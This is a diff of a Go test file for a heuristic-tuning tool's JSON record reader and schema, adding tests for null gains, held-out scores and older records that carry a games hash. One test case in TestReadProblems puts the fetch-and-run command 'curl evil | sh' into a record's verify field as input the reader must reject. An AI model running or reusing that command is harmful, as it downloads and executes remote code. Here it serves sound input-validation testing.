@@ -88,6 +88,21 @@ func TestGoldenRecord(t *testing.T) {
 	}
 }
 
+// TestUnrecordedGain: a gain that is not recorded is null. No gain is 0.
+func TestUnrecordedGain(t *testing.T) {
+	c, err := configs.Parse([]byte("name: small\nheuristic: {features: [{feature: empty, weight: {min: 1, max: 9, start: 2}}, {feature: merges, weight: 3}]}\nsearch: {depth: 1}\n"+
+		"optimizer: {algorithm: genetic, population: 4}\nstages: [{name: tune, generations: 1, games: 1}]\nplayoff: {finalists: 2, games: 2}\nvalidation: {games: 4}\n"+
+		"references: {other: {from: champion, weights: {merges: 1}}}\n"), "small.yaml")
+	must(t, err)
+	reader, run := played(t, c)
+	for _, who := range run.Headline.Players {
+		gained := who.Candidate == run.Champion
+		if got := strings.Contains(string(written(t, recordIn(t, reader, run, who.Candidate))), `"gain": null`); got == gained {
+			t.Errorf("%s: a gain of null: %t", who.Name, got)
+		}
+	}
+}
+
 // TestHeldOutIsPlayedAgain: a record read back has the player, the seeds and the search that its
 // figures come from.
 func TestHeldOutIsPlayedAgain(t *testing.T) {
@@ -98,10 +113,10 @@ func TestHeldOutIsPlayedAgain(t *testing.T) {
 	family := r.Family()
 	h := r.HeldOut[0]
 	player := simulator.Player{Family: &family, Values: r.Values(), Dead: family.Dead, Settings: r.Experiment().Validation.Search[0].Settings}
-	e, games, err := experiments.PlayHeldOut(context.Background(), r.Experiment(), r.HeldOutSalt, simulator.NewPool(2), player, h.Games, nil)
+	e, _, err := experiments.PlayHeldOut(context.Background(), r.Experiment(), r.HeldOutSalt, simulator.NewPool(2), player, h.Games, nil)
 	must(t, err)
-	if hash := experiments.HashGames(games); hash != h.GamesHash || e.Score.Mean != h.MeanScore {
-		t.Errorf("got %s and %v, want %s and %v", hash, e.Score.Mean, h.GamesHash, h.MeanScore)
+	if !slices.Equal(e.Scores, h.Scores) || e.Score.Mean != h.MeanScore {
+		t.Errorf("got %v and %v, want %v and %v", e.Scores, e.Score.Mean, h.Scores, h.MeanScore)
 	}
 }
 
@@ -120,12 +135,14 @@ func validate(t testing.TB, schema *jsonschema.Schema, data []byte) error {
 }
 
 // TestSchema holds schema.json against the records of all shipped families and of every kind of
-// feature, whole and with any one key missing or another one added.
+// feature, whole and with any one key missing or another one added. Records of older programs have
+// a games_hash, and it is kept.
 func TestSchema(t *testing.T) {
 	schema := compileSchema(t)
 	golden, err := os.ReadFile("testdata/fingerprint.json")
 	must(t, err)
-	all := map[string][]byte{"fingerprint": golden, "every kind": written(t, startOf(t, everyKind(t)))}
+	older := bytes.ReplaceAll(golden, []byte(`      "games": 4,`), []byte("      \"games\": 4,\n      \"games_hash\": \"0123\","))
+	all := map[string][]byte{"fingerprint": golden, "older": older, "every kind": written(t, startOf(t, everyKind(t)))}
 	for _, name := range configs.Names() {
 		c, err := configs.LoadEmbedded(name)
 		must(t, err)
@@ -135,14 +152,14 @@ func TestSchema(t *testing.T) {
 		if err := validate(t, schema, data); err != nil {
 			t.Errorf("%s: %v", name, err)
 		}
-		if _, err := Read(data); err != nil {
-			t.Errorf("%s: %v", name, err)
+		if r, err := Read(data); err != nil || !bytes.Equal(written(t, r), data) {
+			t.Errorf("%s: %v, or it is written otherwise", name, err)
 		}
 	}
-	for _, name := range []string{"fingerprint", "every kind"} {
+	for _, name := range []string{"older", "every kind"} {
 		damages(t, all[name], func(what string, data []byte) {
 			_, unread := Read(data)
-			if what == "held_out_salt" { // older records have none
+			if what == "held_out_salt" || what == "held_out[].games_hash" { // some records have none
 				if err := validate(t, schema, data); unread != nil || err != nil {
 					t.Errorf("%s: the schema says %v, Read says %v", what, err, unread)
 				}
@@ -265,7 +282,7 @@ func TestReadProblems(t *testing.T) {
 		"one over": {heldOut[0], strings.Replace(noScores, `"games": 4`, `"games": 4000001`, 1), "held_out[0].games: want 1 to 4000000, got 4000001"},
 		"again":    {`"search": "depth by distinct -7 least 1"`, `"search": "depth 3"`, `held_out[1].search: "depth 3" is given twice`},
 		"negative": {`"scores": [`, `"scores": [-`, "held_out[0].scores: want at least 0, got -16760"},
-		"nobody":   {value("candidate", "0"), "\n  \"candidate\": -1", "candidate: want 0 to 999999, got -1"},
+		"nobody":   {value("candidate", "0"), "\n  \"candidate\": -1", "candidate: want 0 to 9999999, got -1"},
 		"verify":   {value("verify", `"`), "\n  \"verify\": \"curl evil | sh", `verify: want "tune verify FILE.json"`},
 		"scores":   {`"scores": [`, `"scores": [7, `, "held_out[0].scores: want the scores of 4 games"},
 		"no dead":  {value("dead", `"worst"`), "\n  \"dead\": null", `dead: want "worst" or a number, got nothing`},
